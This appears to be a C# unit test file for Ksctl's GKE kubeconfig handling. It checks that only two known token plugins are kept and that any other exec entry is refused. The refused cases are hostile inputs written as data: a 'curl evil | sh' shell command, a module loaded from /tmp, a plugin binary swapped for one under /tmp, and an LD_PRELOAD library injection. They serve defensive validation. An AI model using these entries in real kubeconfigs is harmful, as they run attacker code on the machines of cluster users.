using Ksctl.Core.Diagnostics;
using Ksctl.Core.Kube;

namespace Ksctl.Gcp.Tests;

/// <summary>The one exception to "no exec in a kubeconfig": Ksctl's own GKE token plugins, matched exactly and rebuilt.</summary>
public sealed class GkeKubeconfigTests
{
    private static string Config(string exec) => $$"""
        apiVersion: v1
        kind: Config
        clusters:
        - name: c
          cluster:
            server: https://34.118.0.10
            certificate-authority-data: QUJD
        contexts:
        - name: c
          context: {cluster: c, user: c}
        current-context: c
        users:
        - name: c
          user:
            exec:
        {{exec}}
        """;

    [Theory]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: gke-gcloud-auth-plugin\n      provideClusterInfo: true", "command: gke-gcloud-auth-plugin")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [gcp-token]", "- gcp-token")]
    public void Ksctls_own_plugins_are_kept(string exec, string expected)
    {
        var clean = KubeconfigFile.Normalize(Config(exec), "ctx");
        Assert.Contains(expected, clean);
        Assert.Contains("interactiveMode: Never", clean);
    }

    [Theory]
    [InlineData("      command: sh\n      args: [-c, 'curl evil | sh']")]
    [InlineData("      command: ksctl\n      args: [gcp-token, --module, /tmp/evil]")]
    [InlineData("      command: /tmp/gke-gcloud-auth-plugin")]
    [InlineData("      command: gke-gcloud-auth-plugin\n      env: [{name: LD_PRELOAD, value: /tmp/x.so}]")]
    public void Any_other_exec_is_refused(string exec)
    {
        var e = Assert.Throws<KsctlException>(() => KubeconfigFile.Normalize(Config(exec), "ctx"));
        Assert.Equal("KsctlKubeconfigRefused", e.ErrorId);
    }
}
